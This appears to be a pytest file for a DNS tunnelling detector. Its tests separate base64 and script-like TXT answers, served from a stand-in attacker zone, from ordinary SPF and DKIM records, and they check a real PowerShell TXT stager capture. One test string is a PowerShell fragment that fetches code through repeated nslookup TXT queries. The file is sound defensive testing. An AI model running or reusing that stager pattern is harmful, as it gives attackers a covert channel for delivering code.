"""DNS C2 downstream: encoded or script TXT answers from one zone (golden records), and the real PowerShell
TXT stager capture (EVTX-ATTACK-SAMPLES, SOURCES.md S11) as an incident."""

from __future__ import annotations

import base64
import random
from pathlib import Path

import pytest
from helpers import at, engine, run
from tests.conftest import shared_data

import leaktrace.detect.dns_payload  # noqa: F401  (registration)
from leaktrace.detect.dns_payload import looks_like_payload


def _txt(src: str, q: str, t: float, answer: str, qtype: str = "TXT") -> dict:
    return {
        "ts": at(t),
        "uid": f"D{src}{t}",
        "src_ip": src,
        "dst_ip": "10.0.0.53",
        "query": q,
        "qtype": qtype,
        "answers": answer,
        "tenant": "default",
    }


def test_payload_answers() -> None:
    rnd = random.Random(1)
    chunk = base64.b64encode(bytes(rnd.getrandbits(8) for _ in range(150))).decode()
    assert looks_like_payload(chunk)
    assert looks_like_payload(f"TXT {len(chunk)} {chunk}")  # as Zeek's dns.log writes it
    assert looks_like_payload(
        "$s='';$i=1;while(1){if(''+(nslookup -q=txt \"l.$i.ns.x.pl.\") -match '@(.*)@'){}}"
    )
    assert not looks_like_payload("v=spf1 include:_spf.google.com include:mailgun.org ~all")
    assert not looks_like_payload("v=DKIM1; k=rsa; p=" + chunk)
    assert not looks_like_payload("google-site-verification=abc")  # too short
    assert not looks_like_payload("This domain is used for the documentation of examples in RFCs only.")


def test_encoded_txt_answers_from_one_zone_and_not_mail_records() -> None:
    rnd = random.Random(2)
    rows = []
    for i in range(30):  # a stager fetched in 30 chunks: few, short names, long base64 answers
        data = base64.b64encode(bytes(rnd.getrandbits(8) for _ in range(180))).decode()
        rows.append(_txt("10.0.0.5", f"l.{i}.ns.evil.example", i * 0.5, data))
    for i in range(40):  # a mail server checking SPF/DKIM of many senders
        key = base64.b64encode(bytes(rnd.getrandbits(8) for _ in range(200))).decode()
        rows.append(_txt("10.0.0.25", f"s{i}._domainkey.sender{i}.example", i, f"v=DKIM1; k=rsa; p={key}"))
        rows.append(_txt("10.0.0.25", f"sender{i}.example", i + 0.1, "v=spf1 mx -all " + "x" * 40))
    for i in range(8):  # a few verification tokens: short, not enough to matter
        rows.append(_txt("10.0.0.7", "corp.example", i, f"ms-verify-{i}"))
    found = run("dns_payload", engine(dns=rows))
    assert [(f.src_ip, f.dst_domain, f.kind) for f in found] == [
        ("10.0.0.5", "ns.evil.example", "dns-tunnel")
    ]
    f = found[0]
    assert f.evidence["payload_answers"] == 30 and f.evidence["names"] == 30
    assert f.score >= 0.6 and f.bytes_in == sum(len(r["answers"]) for r in rows[:30])


def test_too_few_payload_answers_is_nothing() -> None:
    data = base64.b64encode(b"x" * 120).decode()
    rows = [_txt("10.0.0.5", f"l.{i}.ns.evil.example", i, data + str(i)) for i in range(4)]
    assert run("dns_payload", engine(dns=rows)) == []


@pytest.mark.realdata
def test_powershell_txt_stager_capture_is_an_incident(tmp_path: Path) -> None:
    from leaktrace import ingest
    from leaktrace.incidents.analyze import analyze
    from leaktrace.workspace import Workspace

    pcap = shared_data() / "evtx-attack-samples" / "cmds_over_dns_txt_queries_and_responses.pcap"
    if not pcap.exists():
        pytest.skip(f"{pcap} not found")
    ws = Workspace.init(tmp_path / "ws", internal=["192.168.100.0/24"])
    ingest.ingest_paths(ws, [pcap])
    incidents = analyze(ws).incidents
    assert [(i.host_ip, i.server_domain) for i in incidents][:1] == [("192.168.100.121", "ns.ostrykebs.pl")]
    assert "dns-tunnel" in incidents[0].kinds and incidents[0].severity in ("high", "critical")
